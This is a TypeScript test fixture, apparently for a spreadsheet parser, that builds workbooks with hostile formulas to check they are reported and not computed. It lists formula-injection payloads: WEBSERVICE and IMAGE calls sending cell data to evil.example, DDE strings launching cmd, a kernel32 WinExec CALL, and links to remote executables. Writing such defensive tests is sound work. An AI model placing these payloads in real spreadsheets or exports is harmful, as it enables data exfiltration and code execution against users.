import { rawWorkbook, rawZip, workbookRelationships } from '../raw-zip';
import { SHEETS, read, rowOf, workbookXml } from './file';
import type { HostileFile } from './file';

/** Formulas that reach out of the workbook 对外公式, as files store them. */
export const CALLS: readonly string[] = [
  'WEBSERVICE("http://evil.example/?"&B9)',
  '_xlfn.WEBSERVICE("http://evil.example/?"&B9)',
  '_xlfn.FILTERXML(_xlfn.WEBSERVICE("http://evil.example"),"//a")',
  'IMPORTDATA("http://evil.example")',
  '_xlfn.IMAGE("http://evil.example/?"&B9)',
  'HYPERLINK("http://evil.example/?"&B9,"点我")',
  'HYPERLINK("file://server/share/x.exe","点我")',
  'HYPERLINK("\\\\server\\share\\x.exe")',
  "cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  'DDE("cmd","/C calc","x")',
  'RTD("evil.server",,"x")',
  'CALL("kernel32","WinExec","JCJ","calc",0)',
  '[1]Sheet1!A1',
  "'C:\\x\\[book.xlsx]Sheet1'!A1",
  "'\\\\server\\share\\[book.xlsx]Sheet1'!A1",
  '_xlfn._xlws.PY(1,0)',
];

const xml = (text: string): string => text.replace(/&/g, '&amp;').replace(/"/g, '&quot;');

/** Workbooks that call out 对外取数的工作簿: read, with every such formula as it stands, to be reported and not computed. */
export const CALLING: readonly HostileFile[] = [
  ...CALLS.map((formula) =>
    read(
      `the formula ${formula}`,
      () => rowOf(`<c r="A1"><f>${xml(formula)}</f><v>670</v></c>`),
      (file) => {
        expect(file.sheets[0]?.values).toEqual([[670]]);
        expect([...file.sheets[0]!.formulas.values()]).toEqual([`=${formula}`]);
      },
    ),
  ),
  read(
    'a link to another workbook, macros and a program',
    () =>
      rawZip([
        ...rawWorkbook('<sheetData/>', {
          'xl/workbook.xml': workbookXml(
            `${SHEETS}<externalReferences><externalReference r:id="rId2"/></externalReferences>`,
          ),
          'xl/_rels/workbook.xml.rels': workbookRelationships('rId2 externalLink externalLinks/externalLink1.xml'),
        }),
        {
          name: 'xl/externalLinks/externalLink1.xml',
          data: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
        },
        { name: 'xl/vbaProject.bin', data: 'x' },
        { name: 'xl/embeddings/oleObject1.bin', data: 'x' },
      ]),
    (file) => expect(file.flags).toEqual({ macros: true, externalLinks: 1, embedded: true, date1904: false }),
  ),
];
